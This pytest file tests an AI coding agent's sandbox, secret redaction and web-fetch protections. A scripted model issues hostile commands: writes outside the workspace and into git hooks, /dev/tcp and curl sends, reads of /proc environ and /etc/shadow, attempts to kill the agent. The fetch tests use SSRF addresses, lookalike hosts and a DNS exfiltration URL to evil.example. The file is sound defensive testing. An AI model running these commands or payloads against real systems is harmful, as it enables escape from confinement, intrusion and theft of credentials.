"""Family I, sandbox, environment and network: what a command, a server and a fetch can reach and can know.

Each test names its row and shows it through the whole agent. All attempts against the sandbox itself are in
`tests/host/test_sandbox.py`, all addresses in `test_address.py`, all ways to answer a fetch in `test_fetch.py`, the
environment in `test_environment.py`, providers' keys in `tests/coder/models`.
"""

import asyncio
import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import asynccontextmanager, contextmanager
from pathlib import Path
from typing import Any

import pytest

from dragoman.host.process_tree import new_mark
from dragoman.host.sandbox import Confinement
from tests.coder.test_whole import until_server
from tests.host.test_environment import SECRETS
from tests.host.test_fetch import PUBLIC, Answer, page, redirect, web
from tests.support import whole_agent
from tests.support.editor import Editor, turns
from tests.support.mcp_servers import RAW_SERVER, raw
from tests.support.needs import need
from tests.support.scripted_turns import Told, answer_questions, apart, bash, call, snapshot
from tests.support.whole_agent import User, events_of, whole

CANARY = "canary-5d21f0"
CONFINED = ["workspace-write", "sandbox"]


def in_mode(mode: str, command: str) -> dict[str, Any]:
    return call("sandbox_bash" if mode == "sandbox" else "bash", command=command)


async def confined(tmp_path: Path, mode: str, *commands: str) -> list[str]:
    """What confined commands, each agreed to, told the model."""
    need("bwrap")
    work, home = tmp_path / "work", tmp_path / "home"
    for folder in (work, home):
        folder.mkdir(exist_ok=True)
    model = Told(apart(in_mode(mode, command) for command in commands))
    user = User("allow_once") if mode == "workspace-write" else User("reject_once")
    async with whole(work, model.make, user=user, mode=mode, home=home) as (_, session):
        await events_of(session)
    assert len(model.results) == len(commands)
    return model.results


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A listener on this machine: its port, and what came."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        stop = threading.Event()

        def listen() -> None:
            while not stop.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    connection.settimeout(0.2)
                    try:
                        heard.append(connection.recv(4096))
                    except TimeoutError:
                        heard.append(b"")

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield server.getsockname()[1], heard
        finally:
            stop.set()
            thread.join()


# -- the sandbox -------------------------------------------------------------------------------------------------------


@pytest.mark.requirement("I1")
@pytest.mark.parametrize("mode", CONFINED)
async def test_nothing_is_written_outside_nor_under_a_protected_name(tmp_path: Path, mode: str) -> None:
    outside = tmp_path / "outside"
    (tmp_path / "work" / ".git" / "hooks").mkdir(parents=True)
    outside.mkdir()
    before = snapshot(outside), snapshot(tmp_path / "work")
    attempts = [
        f"echo x > {outside}/x",
        f"exec 3<{outside}; echo x > /proc/self/fd/3/x",
        f"mount --bind {outside} . && echo x > x",
        f"LD_PRELOAD=./evil.so; cp /bin/true {outside}/x",
        f"ln -s {outside} door; echo x > door/x; rm door",
        "echo x > .git/hooks/pre-commit",
        "mkdir -p .vscode && echo x > .vscode/settings.json",
        "mv .git git && echo x > git/hooks/pre-commit",
    ]
    await confined(tmp_path, mode, *attempts)
    assert (snapshot(outside), snapshot(tmp_path / "work")) == before


@pytest.mark.requirement("I2")
@pytest.mark.parametrize("mode", [*CONFINED, "full-access"])
async def test_nobody_is_reached_over_any_network(tmp_path: Path, mode: str) -> None:
    """A port of this machine, a name, a socket in the file system. Unconfined, the same attempts arrive."""
    with listening() as (port, heard), socket.socket(socket.AF_UNIX) as local:
        local.bind(str(tmp_path / "daemon.sock"))
        local.listen()
        local.settimeout(0)
        connect = "import socket; s = socket.socket({}); s.connect({}); s.send(b'x')"
        await confined(
            tmp_path,
            mode,
            f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo {CANARY} >&3",
            f"curl -s -m 2 http://127.0.0.1:{port}/{CANARY}",
            f'python3 -c "{connect.format("socket.AF_INET", ("127.0.0.1", port))}"',
            f'python3 -c "{connect.format("socket.AF_UNIX", repr(str(tmp_path / "daemon.sock")))}"',
            f"getent hosts {CANARY}.example.com; ping -c1 -W1 127.0.0.1",
        )
        if mode == "full-access":
            local.accept()[0].close()
            assert len(heard) >= 2
            return
        assert heard == []
        with pytest.raises(BlockingIOError):
            local.accept()


@pytest.mark.requirement("I3")
@pytest.mark.parametrize("mode", CONFINED)
async def test_the_agent_is_neither_seen_nor_touched(
    tmp_path: Path, mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", CANARY)
    me = os.getpid()
    results = await confined(
        tmp_path,
        mode,
        f"cat /proc/{me}/environ; tr '\\0' '\\n' < /proc/{me}/cmdline; ls /proc/{me}/fd",
        f"kill -0 {me} && echo touched; kill -9 {me} && echo touched",
        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a KEY",
        "unshare -Ur id -u && echo gained; su nobody -c id; cat /etc/shadow",
        "grep -s Cap /proc/self/status",
    )
    told = "\n".join(results)
    assert CANARY not in told
    assert "pytest" not in results[0]
    assert "touched" not in told
    assert "gained" not in told
    assert "root:" not in results[3]
    assert "CapEff:\t0000000000000000" in results[4]


@pytest.mark.requirement("I4")
@pytest.mark.parametrize("mode", CONFINED)
async def test_without_a_sandbox_no_command_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    """The reason is told, and nothing runs bare."""
    nothing = Confinement(None, 0, ("There is no bubblewrap: apt install bubblewrap.",))
    # This one may be imported by its line, and must not find the other one changed: it would keep that.
    monkeypatch.setattr("dragoman.coder.sandbox.probe", lambda: nothing)
    monkeypatch.setattr("dragoman.host.sandbox.probe", lambda: nothing)
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    model = Told(apart([in_mode(mode, f"touch ran {tmp_path}/ran")]))
    async with whole(work, model.make, user=User("allow_once"), mode=mode, home=home) as (_, session):
        await events_of(session)
    assert len(model.results) == 1
    assert all("bubblewrap" in result for result in model.results)
    assert (list(work.iterdir()), (tmp_path / "ran").exists()) == ([], False)


# -- what is known -----------------------------------------------------------------------------------------------------

MORE_SECRETS = [
    *("API_KEY_PROD", "KEY", "KEY_OF_MINE", "my_api_key", "SIGNING_KEY_2", "TOKEN_GITHUB", "NPM_TOKEN", "VAULT_TOKEN"),
    *("DB_PASSWORD", "PASSWORD_OF_DB", "MY_PASSPHRASE", "SOME_CREDENTIALS", "SENTRY_DSN", "SLACK_WEBHOOK_URL"),
    *("SESSION_COOKIE", "AZURE_STORAGE_CONNECTION_STRING", "TWILIO_AUTH_TOKEN", "JWT_SECRET_STAGING", "BASIC_AUTH"),
]


@pytest.mark.requirement("I5")
@pytest.mark.parametrize("mode", ["full-access", "ask", "workspace-write", "sandbox"])
async def test_no_secret_of_the_environment_reaches_a_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str
) -> None:
    """Every name that the unit test has, and a URL with a password."""
    need("bwrap")
    names = sorted({*SECRETS, *MORE_SECRETS})
    assert len(names) >= 50
    for name in names:
        monkeypatch.setitem(whole_agent.ENVIRONMENT, name, f"{CANARY}-{name}")
    monkeypatch.setitem(whole_agent.ENVIRONMENT, "DATABASE_URL", f"postgres://user:{CANARY}@host/")
    if mode in CONFINED:
        for name in ("SSH_AUTH_SOCK", "HTTPS_PROXY", "DOCKER_HOST", "DBUS_SESSION_BUS_ADDRESS"):
            monkeypatch.setitem(whole_agent.ENVIRONMENT, name, f"http://user:{CANARY}@host/")
    work, home = tmp_path / "work", tmp_path / "home"
    work.mkdir()
    model = Told(apart([in_mode(mode, "env; cat /proc/self/environ")]))
    async with whole(work, model.make, user=User("allow_once"), mode=mode, home=home) as (_, session):
        await events_of(session)
    assert "PATH=" in model.results[0]
    assert CANARY not in model.results[0]


@pytest.mark.requirement("I5")
async def test_no_secret_of_the_environment_reaches_a_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """And what the client names for it does."""
    for name in sorted({*SECRETS, *MORE_SECRETS}):
        monkeypatch.setitem(whole_agent.ENVIRONMENT, name, f"{CANARY}-{name}")
    server = raw("environment", MEANT_TOKEN="meant")
    model = Told(apart([call("mcp__raw__act")]))
    async with whole(tmp_path, model.make, user=User("allow_once"), mcp_servers=[server]) as (_, session):
        await until_server("connected", session)
        await events_of(session)
    known = json.loads(model.results[0])
    assert known["MEANT_TOKEN"] == "meant"
    assert CANARY not in model.results[0]


def told_by(path: Path) -> bytes:
    return b"".join(file.read_bytes() for file in path.rglob("*") if file.is_file())


def command_lines() -> bytes:
    lines = []
    for name in filter(str.isdecimal, os.listdir("/proc")):
        try:
            lines.append(Path(f"/proc/{name}/cmdline").read_bytes())
        except OSError:
            continue
    return b"\n".join(lines)


@pytest.mark.requirement("I6")
def test_no_secret_of_the_settings_is_told_by_anybody(tmp_path: Path) -> None:
    """Keys, headers, URLs with a password and servers' variables; wire, stderr, log, transcript, `ps`."""
    canary = new_mark()  # nobody else on this machine has it in a command line
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text(
        f'[mcp.headers]\nurl = "http://user:{canary}-a@127.0.0.1:1/mcp?token={canary}-b"\n'
        f'headers = {{ Authorization = "Bearer {canary}-c" }}\n'
        f'[mcp.dies]\ncommand = "{sys.executable}"\nargs = {json.dumps([*RAW_SERVER, "dies at start"])}\n'
        f'env = {{ CANARY = "{canary}-d" }}\n'
    )
    (home / "credentials.toml").write_text(f'[keys]\nopenai = "{canary}-e"\n')
    (home / "credentials.toml").chmod(0o600)
    env = {"OPENAI_API_KEY": f"{canary}-f", "ANTHROPIC_API_KEY": f"{canary}-g"}
    settings = told_by(home)
    with Editor(
        tmp_path, turns(apart([bash("env; cat /nowhere")])), "--trace", str(tmp_path / "trace"), env=env
    ) as editor:
        editor.open()
        _, told = answer_questions(editor, lambda question: {"result": {"outcome": {"outcome": "cancelled"}}})
        told += editor.prompt("/mcp")
        running = command_lines()
        code, out, errors = editor.leave()
    said = json.dumps(told).encode() + out + errors + running + (tmp_path / "trace").read_bytes()
    assert (code, b"mcp" in said) == (0, True)
    assert canary.encode() not in said
    kept = told_by(home)
    # where the user has put them, and nowhere else
    assert kept.count(canary.encode()) == settings.count(canary.encode())


@pytest.mark.requirement("I7")
def test_what_a_tool_prints_is_in_the_transcript_and_in_no_log(tmp_path: Path) -> None:
    """The user sees what a command printed; stderr, the log folder and a trace of it do not have secrets."""
    (tmp_path / "notes").write_text(f"OPENAI_API_KEY={CANARY}{CANARY}\nsk-{CANARY}{CANARY}\n")
    script = turns(apart([bash("cat notes")]))
    with Editor(tmp_path, script, "--mode", "full", "--trace", str(tmp_path / "trace")) as editor:
        editor.open()
        told = json.dumps(editor.prompt("go"))
        _, _, errors = editor.leave()
    assert CANARY in told
    assert CANARY.encode() not in errors
    log = tmp_path / "home" / "log"
    assert not log.exists() or CANARY.encode() not in told_by(log)
    assert f"sk-{CANARY}".encode() not in (tmp_path / "trace").read_bytes()


@pytest.mark.requirement("I8")
@pytest.mark.parametrize("mode", ["ask", "workspace-write", "full-access", "sandbox", "read-only"])
async def test_our_keys_are_not_read_by_any_tool(tmp_path: Path, mode: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Though our data lies in the workspace, and under another name."""
    need("bwrap")
    work, home = tmp_path / "work", tmp_path / "work" / "data"
    home.mkdir(parents=True)
    (work / "alias").symlink_to("data")
    (home / "credentials.toml").write_text(f'openai = "{CANARY}"\n')
    (home / "sessions").mkdir()
    (home / "sessions" / "other").write_text(CANARY)
    (work / "link").symlink_to("data/credentials.toml")
    prefix = "sandbox_" if mode == "sandbox" else ""
    steps = [
        *(call(f"{prefix}read_file", path=p) for p in ("data/credentials.toml", "alias/credentials.toml", "link")),
        call(f"{prefix}read_file", path="data/sessions/other"),
        call(f"{prefix}grep", pattern="canary"),
        call(f"{prefix}grep", pattern="canary", path="data"),
        call(f"{prefix}list_files", path="data"),
        call(f"{prefix}edit_file", path="link", old_string="nothing", new_string="x"),
    ]
    if mode in CONFINED:
        steps.append(in_mode(mode, "cat data/credentials.toml link data/sessions/other; grep -r canary ."))
    model = Told(apart(steps))
    user = User("allow_once" if mode == "workspace-write" else "reject_once")
    async with whole(work, model.make, user=user, mode=mode, home=work / "alias") as (_, session):
        await events_of(session)
    assert len(model.results) == len(steps)
    assert not any(CANARY in result for result in model.results), model.results


@pytest.mark.requirement("I8")
def test_our_keys_are_not_read_out_of_our_process(tmp_path: Path) -> None:
    """By a command that nothing confines; and we still have them."""
    canary = new_mark()  # nobody else on this machine has it
    env = {"OPENAI_API_KEY": f"{canary}-key", "HARMLESS": f"{canary}-harmless"}
    look = f"cat /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a {canary}-"
    with Editor(tmp_path, turns(apart([bash(look)])), "--mode", "full", env=env, started=True) as editor:
        editor.open()
        told = json.dumps(editor.prompt("go"))
        status = editor.result("auth/status", {})
    assert f"{canary}-harmless" in told
    assert f"{canary}-key" not in told
    assert "openai" in json.dumps(status)


# -- the web -----------------------------------------------------------------------------------------------------------


@asynccontextmanager
async def public_web(monkeypatch: pytest.MonkeyPatch, answers: dict[str, Answer]) -> Any:
    """Every name is public, and leads to a server of ours."""
    async with web(answers) as world:
        monkeypatch.setattr("dragoman.host.fetch._resolve", world.resolve)
        monkeypatch.setattr("dragoman.host.fetch._dial", world.dial)
        yield world


async def fetched(tmp_path: Path, *urls: str, mode: str = "full-access", user: User | None = None) -> list[str]:
    model = Told(apart(call("web_fetch", url=url) for url in urls))
    async with whole(tmp_path, model.make, mode=mode, user=user) as (_, session):
        await events_of(session)
    return model.results


@pytest.mark.requirement("I9")
async def test_no_private_address_is_fetched(tmp_path: Path) -> None:
    """In the mode that allows everything, with a listener that hears nothing."""
    with listening() as (port, heard):
        hosts = [
            *("127.0.0.1", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "0177.1", "127.1"),
            *("localhost", "localhost.", "LOCALHOST", "169.254.169.254", "100.64.0.1", "[fd00:ec2::254]", "10.0.0.1"),
            *("[64:ff9b::7f00:1]", "[2002:7f00:1::]", "user@127.0.0.1", "example.com@127.0.0.1", "127.0.0.1\0.com"),
        ]
        results = await fetched(tmp_path, *(f"http://{host}:{port}/{CANARY}" for host in hosts))
        assert len(results) == len(hosts)
        assert not any(CANARY in result and "HTTP" in result for result in results)
        assert heard == []


@pytest.mark.requirement("I10")
async def test_a_redirect_to_a_private_address_is_refused_at_the_hop(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    targets = ["http://127.0.0.1/", "http://169.254.169.254/latest", "file:///etc/passwd", "ftp://example.com/"]
    answers: dict[str, Answer] = {f"/{number}": redirect(target) for number, target in enumerate(targets)}
    answers |= {f"/r{number}": redirect(f"/r{number + 1}") for number in range(12)}
    async with public_web(monkeypatch, answers) as world:
        results = await fetched(tmp_path, *(f"http://example.com/{n}" for n in [*range(len(targets)), "r0"]))
        assert {address for address, *_ in world.dialled} == {PUBLIC}
    assert "more than 10 times" in results[-1]
    assert not any("root:" in result for result in results)


@pytest.mark.requirement("I11")
async def test_only_the_address_that_was_checked_is_dialled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with public_web(monkeypatch, {"/": page(b"hello")}) as world:
        world.names["rebind.example"] = [[PUBLIC], ["127.0.0.1"]]
        results = await fetched(tmp_path, "http://rebind.example/", "http://rebind.example/")
        assert [address for address, *_ in world.dialled] == [PUBLIC]
    assert results[0] == "hello"
    assert "not public" in results[1]


TWINS = [
    "http://example.com.evil/",
    "http://evil-example.com/",
    "http://sub.example.com/",
    "http://exаmple.com/",  # a Cyrillic letter
    "http://xn--exmple-4nf.com/",
    "http://example.com@evil.com/",
    "http://evil.com/?example.com",
    "http://evil.com#example.com",
]


@pytest.mark.requirement("I12")
async def test_always_for_a_host_is_for_that_host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user = User("allow_always", "reject_once")
    async with public_web(monkeypatch, {"/": page(b"hello"), "/other": page(b"other")}) as world:
        results = await fetched(
            tmp_path, "http://example.com/", "http://EXAMPLE.com./other", *TWINS, mode="ask", user=user
        )
        assert set(world.resolved) == {"example.com"}
    assert results[:2] == ["hello", "other"]
    assert len(user.asked) == 1 + sum(result == "Permission denied. The user said no." for result in results)
    assert "hello" not in results[2:]


async def drip(writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.01)


async def endless(writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
    while True:
        writer.write(b"x" * 65536)
        await writer.drain()


@pytest.mark.requirement("I13")
async def test_a_page_without_an_end_is_cut(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """By its size, and by the user, who does not wait for the deadline."""
    async with public_web(monkeypatch, {"/endless": endless, "/drip": drip}):
        (result,) = await fetched(tmp_path, "http://example.com/endless")
        assert (len(result) < 30_000, "there was more" in result) == (True, True)
        model = Told([call("web_fetch", url="http://example.com/drip")])
        async with whole(tmp_path, model.make, mode="full-access") as (_, session):
            turn = session.prompt("go")
            async with asyncio.timeout(30):
                async for event in turn:
                    if getattr(event, "status", "") == "in_progress":
                        await turn.cancel()
        assert turn.stop_reason == "cancelled"


@pytest.mark.requirement("I14")
async def test_nothing_is_resolved_before_a_yes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name is a message already; and a redirect is no way to another host."""
    async with public_web(monkeypatch, {"/": redirect(f"http://evil.example/?{CANARY}")}) as world:
        leak = f"http://{CANARY}.evil.example/"
        for mode in ("ask", "workspace-write", "read-only", "plan", "safe", "sandbox"):
            results = await fetched(tmp_path, leak, mode=mode, user=User("reject_once"))
            reason = "The user said no" if mode in ("ask", "workspace-write") else f"Mode {mode} does not allow it"
            assert results == [f"Permission denied. {reason}."]
        assert world.resolved == []
        user = User("allow_always", "reject_once")
        results = await fetched(
            tmp_path, "http://example.com/", f"http://evil.example/?{CANARY}", mode="ask", user=user
        )
        assert set(world.resolved) == {"example.com"}
        assert "redirects to another host" in results[0]
        assert len(user.asked) == 2
